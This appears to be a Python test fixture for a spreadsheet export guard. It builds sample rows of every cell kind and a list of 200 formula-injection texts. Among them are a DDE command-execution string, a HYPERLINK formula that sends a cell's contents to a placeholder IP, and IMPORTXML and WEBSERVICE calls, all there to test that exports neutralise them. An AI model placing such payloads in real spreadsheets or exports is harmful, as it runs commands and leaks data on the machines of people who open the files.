"""Lists to write: rows of every kind of cell, and texts that would be formulas."""

from collections.abc import Sequence
from datetime import UTC, datetime

from core.kit.db import Row, Tx
from core.kit.listing import Asked, AtHand, Condition, Is, Order, Relation
from core.kit.masks import Mask
from core.kit.sheets.guard import LEADS
from core.kit.sheets.sheet import Column, Head, Kind
from core.kit.sheets.source import Source

AT = datetime(2026, 11, 22, 13, 30, 5, tzinfo=UTC)

COLUMNS = (
    Column("plate", "Plate", personal=Mask.PLATE),
    Column("phone", "Phone", personal=Mask.PHONE),
    Column("name", "Name", english="name_en", width=20),
    Column("state", "State", words={"open": "under way", "done": "=over"}),
    Column("paid_fen", "Received", Kind.MONEY, unit="yuan", is_summed=True),
    Column("stay_min", "Stays", Kind.WHOLE, is_summed=True),
    Column("load_pct", "Load", Kind.SHARE, scale=10, places=1),
    Column("length_m", "Length", Kind.NUMBER, scale=100, places=2),
    Column("entered_at", "Entered", Kind.MOMENT, width=20),
    Column("opened_on", "Opened", Kind.DATE),
    Column("is_kept", "Kept", Kind.YES_NO),
)
FIELDS = frozenset({*(column.field for column in COLUMNS), "name_en", "row_no"})

_LISTED = """
    select
        row_no,
        case row_no %% 3 when 0 then null when 1 then '鄂A·6D2' || lpad(row_no::text, 2, '0') else '京B12345' end as plate,
        case row_no %% 2 when 0 then '13812345678' else '1234' end as phone,
        texts[row_no] as name,
        case row_no when 2 then 'Road two' else '' end as name_en,
        case row_no %% 3 when 0 then 'open' when 1 then 'done' else '@strange' end as state,
        (row_no * 125 - 300)::bigint as paid_fen,
        case row_no when 5 then null else row_no * 7 end as stay_min,
        (row_no %% 1000)::integer as load_pct,
        (row_no * 12345)::bigint as length_m,
        %(at)s::timestamptz + row_no * interval '1 hour 0.25 second' as entered_at,
        %(at)s::date + row_no as opened_on,
        case row_no %% 3 when 0 then null when 1 then true else false end as is_kept
    from (select %(texts)s::text[] as texts) as given
    cross join lateral generate_series(1, cardinality(texts)) as row_no
"""
RELATION = Relation(_LISTED, key="row_no", columns=FIELDS, order=(Order("row_no"),))


def _every_row(tx: Tx, *, texts: list[str], at: datetime) -> list[Row]:
    return tx.rows(_LISTED, texts=texts, at=at)


AT_HAND = AtHand(_every_row, key="row_no", columns=FIELDS, order=(Order("row_no"),))


def payloads() -> list[str]:
    """Return 200 texts that a spreadsheet would run."""
    bodies = [
        "cmd|' /C calc'!A0", '1+1', 'HYPERLINK("http://192.0.2.1/?"&A1,"open")', "SUM(A1:A9)", 'IMPORTXML(CONCAT("//",A1),"//a")',
        "@SUM(1)", "2-3", "WEBSERVICE(A1)", 'DDE("a";"b";"c")', "-1", "+1", "=1", "a,b", 'say "no"', "two\nlines", "two\r\nlines",
        "地址", "", "\t=1", ";=1",
    ]  # fmt: skip
    leads = [lead for lead in LEADS if lead != "\0"]  # the database holds none
    return [lead + body for lead in leads for body in bodies][:200]


def a_list(
    tx: Tx, texts: Sequence[str], *, relation: Relation | AtHand = RELATION, columns: tuple[Column, ...] = COLUMNS
) -> Source:
    """Return a list of one row for each text."""
    asked = Asked(conditions=(Condition("row_no", Is.AT_LEAST, 1),))
    return Source(tx, relation, asked, columns, {"texts": list(texts), "at": AT})


def a_head(**said: object) -> Head:
    """Return a head, a text that would be a formula among its filters."""
    told = {
        "title": "Roads 道路", "company": "Boshu 泊枢", "user": "Somebody", "made_at": AT, "snapshot_id": "0198-1",
        "filters": (("District", "=GL"),), "version": "1",
    }  # fmt: skip
    return Head(**{**told, **said})  # type: ignore[arg-type]  # values of a test


def no_tick(_row_n: int) -> None:
    """Let it go on."""
